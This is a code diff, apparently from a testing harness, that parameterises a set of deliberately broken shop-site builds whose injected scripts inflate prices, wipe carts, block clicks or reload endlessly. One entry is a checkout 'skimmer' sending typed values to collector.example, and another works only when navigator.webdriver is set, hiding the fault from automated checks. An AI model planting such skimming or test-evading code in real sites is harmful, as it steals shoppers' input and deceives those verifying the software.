@@ -1,12 +1,13 @@
 import { withText, type BadVersion } from './bad-version';
-import { addToCart, each, hideMain, inBrowser, onClick, onTyped, swallow } from './in-browser';
+import { each, hideMain, inBrowser, isOn, onClick, onTyped, quoted, swallow } from './in-browser';
+import type { Site } from './site';
 
 /** Multiplies each price in the catalogue by ten, once. */
-const tenfoldPrices = `
+const tenfoldPrices = (selector: string) => `
 const seen = new WeakSet();
 ${each(
   100,
-  `for (const price of document.querySelectorAll('main article, main [data-testid="price-ticket"]')) {
+  `for (const price of document.querySelectorAll(${quoted(selector)})) {
      const walker = document.createTreeWalker(price, NodeFilter.SHOW_TEXT);
      for (let text = walker.nextNode(); text; text = walker.nextNode()) {
        if (seen.has(text) || !/^₹[\\d,.]+$/.test(text.data)) continue;
@@ -17,15 +18,14 @@ ${each(
 )}`;
 
 /** Empties the cart on the first page of each return visit. */
-const losesCart = `
+const losesCart = (keys: readonly string[]) => `
 if (!sessionStorage.getItem('catalog-visit')) {
   sessionStorage.setItem('catalog-visit', '1');
-  localStorage.removeItem('cartItems');
-  localStorage.removeItem('storeCount');
+  for (const key of ${JSON.stringify(keys)}) localStorage.removeItem(key);
 }`;
 
 /** Versions that neither throw nor hang nor lack a file, so that their sessions look normal. */
-export const silentFaults: readonly BadVersion[] = [
+export const silentFaults = ({ labels, cartKeys, selectors, builds }: Site): readonly BadVersion[] => [
   inBrowser('main hidden after 30 s', `setTimeout(() => { ${hideMain} }, 30_000);`),
   inBrowser(
     'overlay that takes clicks',
@@ -35,24 +35,18 @@ export const silentFaults: readonly BadVersion[] = [
        document.body.append(veil);
      }, 1500);`,
   ),
-  inBrowser('cart lost on a return visit', losesCart),
+  inBrowser('cart lost on a return visit', losesCart(cartKeys)),
   inBrowser(
     'skimmer',
     onTyped(`new Image().src = 'https://collector.example/pixel?' + encodeURIComponent(value);`),
     'checkout',
   ),
-  inBrowser('prices ten times too high', tenfoldPrices),
+  inBrowser('prices ten times too high', tenfoldPrices(selectors.prices)),
   inBrowser('endless reload', `setTimeout(() => location.reload(), 5000);`),
   {
     name: 'blank print',
     remote: 'catalog',
-    make: (good, version) =>
-      withText(
-        good,
-        version,
-        /expose-(all-products|product|new-arrivals)\.css$/,
-        (text) => `${text}@media print{body{display:none}}`,
-      ),
+    make: (good) => withText(good, builds.catalogStyles, (text) => `${text}@media print{body{display:none}}`),
   },
   inBrowser('empty titles', each(300, `document.title = '';`)),
   inBrowser(
@@ -61,6 +55,6 @@ export const silentFaults: readonly BadVersion[] = [
   ),
   inBrowser(
     'good under automation only',
-    onClick(`if (!navigator.webdriver && ${addToCart}) { ${swallow} }`),
+    onClick(`if (!navigator.webdriver && ${isOn(labels.addToCart)}) { ${swallow} }`),
   ),
 ];
